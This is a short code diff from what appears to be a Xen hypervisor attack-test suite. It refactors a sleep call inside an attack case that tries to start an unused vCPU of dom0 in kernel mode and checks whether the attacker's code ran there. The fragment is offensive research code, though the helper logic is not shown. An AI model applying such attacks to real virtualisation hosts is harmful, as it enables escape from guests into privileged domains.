@@ -5,8 +5,6 @@
  */
 #include "../frames/paging.h"
 
-#include <time.h>
-
 #include <xen/vcpu.h>
 
 #include "entry.h"
@@ -84,7 +82,6 @@ static void start(unsigned int vcpu, uint64_t stack)
  */
 ATTACK("U-STACK-INIT", "start an unused vCPU of dom0's in kernel mode")
 {
-    static const struct timespec for_a_while = { .tv_nsec = 50 * 1000 * 1000 };
     const unsigned int unused = (unsigned int)sysconf(_SC_NPROCESSORS_CONF);
     uint8_t *page = buffer(PAGE_SIZE);
 
@@ -98,7 +95,7 @@ ATTACK("U-STACK-INIT", "start an unused vCPU of dom0's in kernel mode")
     prepare_entry();
     prepare_last_calls(page, unused);
     start(unused, kernel_alias(page) + PAGE_SIZE);
-    nanosleep(&for_a_while, NULL);
+    rest(50);
 
     return effect(victim_has_mark(), "%s",
                   victim_has_mark() ? "code of ours ran on a vCPU of its own"
